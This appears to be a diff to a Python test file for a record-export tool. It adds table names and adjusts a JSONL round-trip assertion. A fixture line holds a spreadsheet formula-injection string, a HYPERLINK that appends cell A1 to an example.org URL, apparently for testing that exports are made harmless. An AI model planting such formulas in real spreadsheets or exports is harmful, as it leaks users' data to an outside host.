@@ -33,7 +33,8 @@ from onrecord.publishing.tables import as_written, harmless
 from onrecord.record import TABLES, DuplicateRow, Record, UnreadRow, open_record, write_record
 
 NAMES = [
-    *("reports", "statements", "refusals", "actors", "offices", "identities", "decisions", "unread", "duplicates"),
+    *("reports", "statements", "refusals", "actors", "offices", "instruments", "grounds"),
+    *("identities", "decisions", "unread", "duplicates"),
 ]
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
 TEXT = f"{FORMULA} said nobody. -1 degrees,\nthey “wrote” 😀."
@@ -192,8 +193,16 @@ def test_reports_can_be_made_again_from_jsonl(tmp_path: Path, pile: list[Report]
     write_record(tmp_path / "r", pile)
     with open_record(tmp_path / "r") as record:
         export(record, tmp_path, "jsonl")
-    # What reports say that people were is in offices.jsonl, all reports together.
-    assert _made_again(tmp_path) == [replace(report, descriptions=()) for report in pile]
+    # What people were is in offices.jsonl, and what instruments are in instruments.jsonl, all reports together.
+    assert _made_again(tmp_path) == [
+        replace(
+            report,
+            descriptions=(),
+            citations=(),
+            statements=tuple(replace(statement, grounds=()) for statement in report.statements),
+        )
+        for report in pile
+    ]
 
 
 @quick
